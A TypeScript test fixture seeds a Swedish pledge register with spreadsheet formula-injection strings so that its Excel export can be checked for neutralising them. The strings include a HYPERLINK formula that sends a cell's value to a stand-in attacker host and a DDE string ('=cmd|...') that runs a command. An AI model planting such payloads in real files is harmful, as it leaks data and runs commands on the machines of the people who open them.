/**
 * The demo register with hostile text typed wherever people type text: the
 * pledge's name, partner and indicator names, measure titles, activity names,
 * statuses and comments. Each starts with a character that makes Excel read a
 * typed cell as a formula (=, +, -, @, a tab) or is a HYPERLINK formula.
 */
import type { WorkbookGrids } from "../../../src/core/cell";
import { demoRegister } from "../../../src/demo/demo-register";

export const HYPERLINK = '=HYPERLINK("https://angripare.invalid/stjal?c="&A1,"Klicka här")';

/** One hostile text per place; the tail makes every one unique so it can be found again. */
export const HOSTILE = {
  pledgeName: "=1+1 Löfte",
  area: "+Skäggetorp",
  reportsTo: "@Trygghetsrådet",
  partnerName: HYPERLINK,
  partnerName2: "-Polisen",
  measureTitle: "=SUM(1,2) Trygghetsvandringar",
  measureTitle2: "\t=1+1 Nattvandring",
  indicatorName: '=HYPERLINK("https://angripare.invalid/","Anmälda brott")',
  indicatorName2: "@SUM(A1) Otrygghet",
  activityTitle: '=HYPERLINK("https://angripare.invalid/a","Vandring")',
  activityTitle2: "+46 vandring",
  comment: "-2+3 kommentar",
  comment2: "\t=cmd|'/c calc'!A1",
  valueComment: "@kommentar",
  status: "=Genomförd",
} as const;

/** Every hostile text, for searching the output. */
export const HOSTILE_TEXTS: string[] = Object.values(HOSTILE);

/** Texts a hostile string may have become after trimming (the register trims cells). */
export const HOSTILE_NEEDLES: string[] = HOSTILE_TEXTS.map((t) => t.trim());

export function hostileRegister(): WorkbookGrids {
  const grids = demoRegister();
  const sheet = (name: string) => {
    const s = grids.sheets.find((x) => x.name === name);
    if (!s) throw new Error(`demo has no sheet ${name}`);
    return s.values;
  };
  const lofte = sheet("Löfte");
  const setting = (field: string, value: string) => (lofte.find((r) => r[0] === field)![1] = value);
  setting("Namn", HOSTILE.pledgeName);
  setting("Område", HOSTILE.area);
  setting("Rapporteras till", HOSTILE.reportsTo);

  const parter = sheet("Parter");
  parter[1]![1] = HOSTILE.partnerName; // KOM
  parter[3]![1] = HOSTILE.partnerName2; // POL

  const atgarder = sheet("Åtgärder");
  atgarder[1]![1] = HOSTILE.measureTitle;
  atgarder[3]![1] = HOSTILE.measureTitle2;

  const indikatorer = sheet("Indikatorer");
  indikatorer[3]![1] = HOSTILE.indicatorName; // I3, a tertial count
  indikatorer[2]![1] = HOSTILE.indicatorName2; // I2, split by gender

  // Data rows start on row 6 (index 5), under the template's headers on row 5.
  const kommunen = sheet("Kommunen");
  kommunen[5]![2] = HOSTILE.activityTitle;
  kommunen[5]![8] = HOSTILE.comment;
  kommunen[6]![2] = HOSTILE.activityTitle2;
  kommunen[6]![8] = HOSTILE.comment2;
  kommunen[7]![3] = HOSTILE.status; // an unknown-value finding quotes it
  kommunen[5]![15] = HOSTILE.valueComment;
  return grids;
}
